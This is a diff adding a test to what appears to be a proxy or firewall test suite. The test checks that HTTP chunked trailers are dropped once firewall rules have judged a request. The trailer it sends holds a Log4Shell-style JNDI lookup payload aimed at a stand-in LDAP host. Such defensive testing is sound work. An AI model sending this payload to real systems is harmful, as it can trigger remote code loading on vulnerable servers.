@@ -105,6 +105,17 @@ test("chunks and trailers reach the origin as the client sent them, and connecti
   });
 });
 
+test("no trailer reaches the origin past rules against attacks, which have decided by then", async () => {
+  const rules: Rules = [{ action: "block", expression: 'http.request.body.raw contains "attack"' }];
+  const send = async (path: string): Promise<string> => {
+    const head = `POST ${path} HTTP/1.1\r\nHost: www.example.com\r\nConnection: close\r\nTransfer-Encoding: chunked\r\nTrailer: x-sum\r\n\r\n`;
+    await exchangeRaw(edge.http, `${head}3\r\nabc\r\n0\r\nx-sum: \${jndi:ldap://e/a}\r\n\r\n`);
+    return receivedAt(path);
+  };
+  await withRules(rules, async () => assert.match(await send("/judged"), /abc\r\n0\r\n\r\n$/), "http_request_firewall_managed");
+  assert.match(await send("/not-judged"), /abc\r\n0\r\nx-sum: \$\{jndi/);
+});
+
 test("a body in chunks of one byte reaches the origin unchanged and in few chunks, in both versions of HTTP", async () => {
   const body = Buffer.alloc(20_000, "0123456789abcdef").toString();
   const large = "x".repeat(3000);
